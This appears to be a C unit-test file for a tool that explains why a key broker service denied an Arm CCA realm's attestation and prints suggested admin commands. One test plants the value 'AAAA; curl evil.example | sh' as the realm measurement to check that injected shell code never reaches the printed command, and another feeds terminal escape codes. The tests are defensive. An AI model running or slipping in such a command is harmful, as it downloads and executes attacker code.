// SPDX-License-Identifier: Apache-2.0
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>

#include "base/array.h"
#include "base/encode.h"
#include "base/json.h"
#include "kbs/denial.h"
#include "vector.h"

#define REFERENCE "cca.realm.cca-realm-initial-measurement"
#define SAMPLE_RIM \
	"rof79/EF5xp4J8tvCJaInHPSvq9IMNT5ywXj6Ww/x7T6oEyvNqJr0JTPnHtzhhfkwYmq7hhN7dpdegPDnb2sfA=="

static json_t *claims;	  /* of the sample EAR, a new copy for each test */
static json_t *appraisal; /* its cpu0, borrowed */

static int setup(void **state)
{
	json_t *sample = vector_read_json("own-vectors/sample-ear.json");

	(void)state;
	claims = json_incref(json_object_get(sample, "claims"));
	appraisal = json_object_get(json_object_get(claims, "submods"), "cpu0");
	json_decref(sample);
	return appraisal ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	json_decref(claims);
	return 0;
}

static void set_status(const char *status)
{
	json_object_set_new(appraisal, "ear.status", json_string(status));
}

static void set_claim(const char *name, int value)
{
	json_object_set_new(json_object_get(appraisal, "ear.trustworthiness-vector"), name,
			    json_integer(value));
}

static void drop_evidence(void)
{
	json_object_del(appraisal, "ear.veraison.annotated-evidence");
}

static void set_evidence_rim(const char *rim)
{
	json_t *realm = json_object_get(
		json_object_get(json_object_get(appraisal, "ear.veraison.annotated-evidence"),
				"cca"),
		"realm");

	assert_int_equal(
		json_object_set_new(realm, "cca-realm-initial-measurement", json_string(rim)), 0);
}

/* How the client of the explanation reached its KBS. */
static struct denial_kbs kbs = { .url = "https://kbs:8080" };

/* Makes an EAR of the claims, and appends its explanation to @out. */
static void explain(const char *token, struct bytes *out)
{
	struct bytes ear = BYTES_INIT, payload = BYTES_INIT, cca = BYTES_INIT;
	struct error e = ERROR_INIT;

	if (token)
		vector_read(token, &cca);
	assert_int_equal(json_compact(claims, &payload, &e), 0);
	encode_base64(ENCODE_BASE64URL, "{\"alg\":\"ES256\"}", 15, &ear);
	bytes_append_text(&ear, ".");
	encode_base64(ENCODE_BASE64URL, payload.data, payload.len, &ear);
	bytes_append_text(&ear, ".c2ln");
	if (denial_explain(&ear, token ? &cca : NULL, &kbs, out, &e) < 0)
		fail_msg("%s", e.text);
	bytes_free(&ear);
	bytes_free(&payload);
	bytes_free(&cca);
}

static void expect(const char *token, const char *wanted)
{
	struct bytes out = BYTES_INIT;

	explain(token, &out);
	assert_string_equal(bytes_text(&out), wanted);
	bytes_free(&out);
}

/* Claim 44238 of the token, extracted by hand. */
#define TOKEN_RIM "dAMsN73SkB900mqZ0L0nZBsSMztkXaibz9DDPUsfBQA="

#define EXECUTABLES_33 \
	"cpu0 executables is 33 [warning]: unrecognized run-time\n" \
	"  no reference value is what this realm booted\n"
#define ADVICE(rim) \
	"  endorse this realm's RIM as reference value " REFERENCE ": " rim "\n" \
	"  realmkey admin --url https://kbs:8080 --admin-token-file admin-token " \
	"set-reference-value " REFERENCE " " rim "\n"

static void test_rim_from_evidence(void **state)
{
	(void)state;
	set_status("warning");
	set_claim("executables", 33);
	expect(NULL, EXECUTABLES_33 ADVICE(SAMPLE_RIM));
}

/* The RIM in the realm's own token takes precedence. */
static void test_rim_from_token(void **state)
{
	(void)state;
	set_status("warning");
	set_claim("executables", 33);
	expect("tfrmm-fakehost/head-9a7f8ef4-sha256-token.cbor", EXECUTABLES_33 ADVICE(TOKEN_RIM));
}

static void test_rim_unknown(void **state)
{
	(void)state;
	set_status("warning");
	set_claim("executables", 33);
	drop_evidence();
	expect(NULL, EXECUTABLES_33
	       "  endorse its RIM (`realmkey rim` prints it) as reference value " REFERENCE "\n");
}

/* A command for pasting contains only base64, even if an attacker has written the EAR. */
static void test_rim_with_shell_code(void **state)
{
	(void)state;
	set_status("warning");
	set_claim("executables", 33);
	set_evidence_rim("AAAA; curl evil.example | sh");
	expect(NULL, EXECUTABLES_33
	       "  endorse its RIM (`realmkey rim` prints it) as reference value " REFERENCE "\n");
}

/* What Trustee's own policy says of every realm. */
static void set_defaults(void)
{
	set_status("contraindicated");
	set_claim("executables", 33);
	set_claim("hardware", 97);
	set_claim("configuration", 36);
	set_claim("instance-identity", 0);
	set_claim("runtime-opaque", 0);
}

#define WITHOUT_RULES "cpu0: the KBS's attestation policy has no rules for Arm CCA"

/* No cure for a single claim is printed, because none helps. */
static void test_policy_without_cca(void **state)
{
	(void)state;
	set_defaults();
	expect(NULL, WITHOUT_RULES
	       ", so each claim has the policy's default\n"
	       "  the KBS's operator sets a policy with such rules, for example the one of trusteed, "
	       "and then endorses this realm's RIM\n"
	       "  realmkey admin --url https://kbs:8080 --admin-token-file admin-token "
	       "set-attestation-policy --policy-file /usr/share/realmkey/policies/default_cpu.rego\n");
}

/* An appraisal that differs from these defaults has another cause. */
static void test_policy_with_cca(void **state)
{
	static const struct {
		const char *claim;
		int value;
	} differences[] = {
		{ "hardware", 2 },	  { "hardware", 96 },	      { "configuration", 0 },
		{ "executables", 3 },	  { "instance-identity", 2 }, { "runtime-opaque", 2 },
		{ "storage-opaque", 32 }, { "file-system", -1 },
	};

	for (size_t i = 0; i < ARRAY_SIZE(differences); i++) {
		struct bytes out = BYTES_INIT;

		set_defaults();
		set_claim(differences[i].claim, differences[i].value);
		explain(NULL, &out);
		if (strstr(bytes_text(&out), WITHOUT_RULES))
			fail_msg("%s %d", differences[i].claim, differences[i].value);
		bytes_free(&out);
		teardown(state);
		setup(state);
	}
}

/* Of a device that is no realm, these values are the ones that its own policy gives. */
static void test_defaults_of_another_device(void **state)
{
	struct bytes out = BYTES_INIT;

	(void)state;
	set_defaults();
	drop_evidence();
	explain(NULL, &out);
	assert_null(strstr(bytes_text(&out), WITHOUT_RULES));
	assert_non_null(strstr(bytes_text(&out), "cpu0 hardware is 97 [contraindicated]: "));
	bytes_free(&out);
}

static void test_each_claim_has_its_advice(void **state)
{
	static const struct {
		const char *claim;
		int value;
		const char *words;
	} cases[] = {
		{ "executables", 96, "boot another image" },
		{ "instance-identity", 97, "enrol its CPAK" },
		{ "instance-identity", 96, "does not trust this platform's key" },
		{ "hardware", 97, "genuine" },
		{ "configuration", 32, "configuration or life cycle" },
		{ "runtime-opaque", 96, "memory" },
		{ "storage-opaque", 96, "cpu0 storage-opaque is 96 [contraindicated]" },
		{ "file-system", -128, "cpu0 file-system is -128 [contraindicated]" },
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct bytes out = BYTES_INIT;

		set_status("contraindicated");
		set_claim(cases[i].claim, cases[i].value);
		explain(NULL, &out);
		if (!strstr(bytes_text(&out), cases[i].words))
			fail_msg("%s %d: %s", cases[i].claim, cases[i].value, bytes_text(&out));
		assert_null(strstr(bytes_text(&out), REFERENCE));
		bytes_free(&out);
		teardown(state);
		setup(state);
	}
}

static void test_affirming_yet_denied(void **state)
{
	(void)state;
	expect(NULL, "the attestation is affirming: the resource policy itself does not release "
		     "this\n");
}

static void test_status_without_a_reason(void **state)
{
	(void)state;
	set_status("warning");
	expect(NULL, "cpu0 is 'warning', and none of its claims says why\n");
}

static void test_second_appraisal(void **state)
{
	json_t *gpu = json_deep_copy(appraisal);

	(void)state;
	json_object_set_new(json_object_get(claims, "submods"), "gpu0", gpu);
	appraisal = gpu;
	set_status("warning");
	set_claim("hardware", 32);
	expect(NULL,
	       "gpu0 hardware is 32 [warning]: genuine but known bugs or vulnerabilities\n"
	       "  the verifier does not accept the platform as genuine; check that it knows the "
	       "platform's CPAK and firmware\n");
}

/* The command has all options by which the client reached the KBS, quoted for a shell. */
static void test_command_with_options(void **state)
{
	const struct denial_kbs plain = kbs;

	(void)state;
	set_status("warning");
	set_claim("executables", 33);
	set_evidence_rim(TOKEN_RIM);
	kbs = (struct denial_kbs){ "http://[::1]:80", "/tmp/it's $HOME", true, 7 };
	expect(NULL, EXECUTABLES_33
	       "  endorse this realm's RIM as reference value " REFERENCE ": " TOKEN_RIM "\n"
	       "  realmkey admin --url 'http://[::1]:80' --ca '/tmp/it'\\''s $HOME' --insecure "
	       "--timeout 7 --admin-token-file admin-token set-reference-value " REFERENCE
	       " " TOKEN_RIM "\n");
	kbs = plain;
}

static void test_name_with_escapes(void **state)
{
	json_t *submods = json_object_get(claims, "submods");

	(void)state;
	set_status("warning");
	json_object_set(submods, "\033[31m\ncpu", appraisal);
	json_object_del(submods, "cpu0");
	expect(NULL, "?[31m?cpu is 'warning', and none of its claims says why\n");
}

static void test_no_ear(void **state)
{
	struct bytes ear = BYTES_INIT, out = BYTES_INIT;
	struct error e = ERROR_INIT;

	(void)state;
	assert_int_equal(denial_explain(&ear, NULL, &kbs, &out, &e), -1);
	bytes_append_text(&ear, "e30.e30.c2ln");
	assert_int_equal(denial_explain(&ear, NULL, &kbs, &out, &e), -1);
	assert_int_equal(out.len, 0);
	bytes_free(&ear);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_rim_from_evidence, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rim_from_token, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rim_unknown, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rim_with_shell_code, setup, teardown),
		cmocka_unit_test_setup_teardown(test_policy_without_cca, setup, teardown),
		cmocka_unit_test_setup_teardown(test_policy_with_cca, setup, teardown),
		cmocka_unit_test_setup_teardown(test_defaults_of_another_device, setup, teardown),
		cmocka_unit_test_setup_teardown(test_each_claim_has_its_advice, setup, teardown),
		cmocka_unit_test_setup_teardown(test_affirming_yet_denied, setup, teardown),
		cmocka_unit_test_setup_teardown(test_status_without_a_reason, setup, teardown),
		cmocka_unit_test_setup_teardown(test_second_appraisal, setup, teardown),
		cmocka_unit_test_setup_teardown(test_command_with_options, setup, teardown),
		cmocka_unit_test_setup_teardown(test_name_with_escapes, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_ear, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
